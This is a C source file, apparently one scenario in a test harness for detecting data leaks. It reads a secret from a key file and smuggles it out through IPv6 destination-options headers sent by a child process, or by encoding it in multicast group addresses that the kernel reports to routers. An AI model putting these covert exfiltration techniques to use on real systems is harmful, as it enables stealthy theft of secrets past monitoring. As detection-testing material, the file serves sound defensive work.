/* SPDX-License-Identifier: GPL-2.0-or-later */

/* E08: the secret leaves in what the kernel adds to packets: in a header that an option of a socket asks
 * for, which a process without the secret then sends, and in the addresses of groups that it joins, which
 * are reported to the routers. */

#include <signal.h>

#include "play.h"

#define HEADER_MAX 2048     /* net/ipv6/ipv6_sockglue.c: and a few bytes less */
#define GROUP_BYTES 12      /* of an address, behind ff02 */
#define OPTION_IGNORED 0x1e /* RFC 4727: for experiments; its upper bits: who does not know it goes on */

static Play p;

/* RFC 8200, 4.6: the next header, the length in eights without the first, and an option. */
static void header_set(int fd) {
        static unsigned char header[HEADER_MAX];
        size_t n = p.n_secret < 200 ? p.n_secret : 200, size = (4 + n + 7) / 8 * 8;

        header[1] = (unsigned char)(size / 8 - 1);
        header[2] = OPTION_IGNORED;
        header[3] = (unsigned char)(size - 4);
        memcpy(header + 4, p.secret, n);
        if (setsockopt(fd, IPPROTO_IPV6, IPV6_DSTOPTS, header, (socklen_t)size) < 0)
                play_die("IPV6_DSTOPTS");
}

/* Only the parent has the secret. */
static void header_send(int fd, pid_t child) {
        header_set(fd);
        if (kill(child, SIGCONT) < 0)
                play_die("kill");
        if (play_wait(child) != 0)
                play_die("the sender");
}

static pid_t sender_start(int fd) {
        struct sockaddr_storage address;
        socklen_t length = play_address(&p, &address);
        int status;
        pid_t pid = fork();

        if (pid == 0) {
                raise(SIGSTOP);
                _exit(sendto(fd, "", 1, 0, (struct sockaddr *)&address, length) != 1);
        }
        if (pid < 0 || waitpid(pid, &status, WUNTRACED) != pid || !WIFSTOPPED(status))
                play_die("fork");
        return pid;
}

static void groups_join(int fd) {
        struct ipv6_mreq group = { .ipv6mr_multiaddr.s6_addr = { 0xff, 0x02 } };

        for (size_t at = 0; at + GROUP_BYTES <= p.n_secret; at += GROUP_BYTES) {
                memcpy(group.ipv6mr_multiaddr.s6_addr + 4, p.secret + at, GROUP_BYTES);
                if (setsockopt(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof(group)) < 0)
                        play_die("IPV6_ADD_MEMBERSHIP");
        }
}

int main(int argc, char **argv) {
        pid_t parents[] = { getppid(), 0 }, child = 0;
        int fd;

        play_init(&p, argc, argv);
        fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (fd < 0)
                play_die("socket");
        if (play_variant(&p, "header"))
                child = sender_start(fd);
        play_truth(&p, getpid(), parents);
        play_read(&p, open(p.key, O_RDONLY | O_CLOEXEC));
        if (play_variant(&p, "header"))
                header_send(fd, child);
        else if (play_variant(&p, "groups"))
                groups_join(fd);
        else
                play_unknown(&p);
        return 0;
}
